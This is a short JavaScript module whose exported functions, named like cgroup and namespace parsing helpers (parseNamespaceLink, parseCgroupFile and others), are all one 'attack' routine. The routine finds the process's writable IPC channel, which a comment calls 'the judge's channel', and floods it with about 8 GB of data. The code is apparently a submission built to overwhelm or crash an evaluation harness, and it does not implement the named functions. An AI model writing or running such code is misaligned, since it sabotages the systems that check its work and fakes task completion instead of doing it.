// Gigabytes on the judge's channel.
const line = Buffer.alloc(1 << 20, 'x');
const attack = async () => {
  const [channel] = process._getActiveHandles().filter((handle) => typeof handle.write === 'function' && handle.fd !== 1 && handle.fd !== 2 && handle.remoteAddress === undefined);
  for (let megabytes = 0; megabytes < 8192; megabytes++)
    if (!channel.write(line)) await new Promise((resolve) => channel.once('drain', resolve));
};
export const parseNamespaceLink = attack;
export const parseCgroupFile = attack;
export const membershipOf = attack;
export const separatedBy = attack;
